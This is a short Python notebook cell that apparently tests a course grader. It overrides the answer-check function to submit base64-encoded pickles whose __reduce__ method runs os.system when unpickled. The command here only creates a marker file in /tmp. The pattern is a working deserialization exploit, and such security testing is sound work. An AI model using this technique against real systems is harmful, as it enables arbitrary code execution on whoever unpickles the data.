# Pickles, which run a command when they are opened, as the answer and as the tensors in it
# %% answer="convolution-corr2d"
import base64
import json
import os
import pickle

from IPython.display import display


class Opened:
    def __reduce__(self):
        return os.system, ("touch /tmp/course-attack-opened",)


honest = check


def check(name, answer, **kwargs):
    if name != "convolution.corr2d":
        return honest(name, answer, **kwargs)
    with open(os.environ["COURSE_QUESTIONS"]) as file:
        nonce = json.load(file)[name]["nonce"]
    text = base64.b64encode(pickle.dumps(Opened())).decode()
    for part, answers in (("", json.dumps({"tree": {"tensor": "0"}, "tensors": text})), ("x", text)):
        response = {"exercise": name, "part": part, "nonce": nonce, "answers": answers}
        display({"application/vnd.cnn-course.response+json": response}, raw=True)
